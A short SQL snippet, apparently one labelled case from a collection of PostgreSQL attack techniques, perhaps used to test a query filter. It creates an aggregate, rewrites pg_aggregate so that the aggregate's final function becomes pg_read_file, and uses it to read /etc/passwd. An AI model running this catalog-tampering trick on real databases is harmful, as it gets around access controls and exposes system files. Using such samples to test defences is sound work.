-- class: regproc-indirection
-- Makes an aggregate's final function pg_read_file by writing a regproc into pg_aggregate.
CREATE AGGREGATE concat_paths(text) (SFUNC = textcat, STYPE = text, INITCOND = '');

UPDATE pg_aggregate
SET aggfinalfn = 'pg_catalog.pg_read_file(text)'::regprocedure
WHERE aggfnoid = 'concat_paths(text)'::regprocedure;

SELECT concat_paths(p) FROM (VALUES ('/etc/'), ('passwd')) AS v(p);
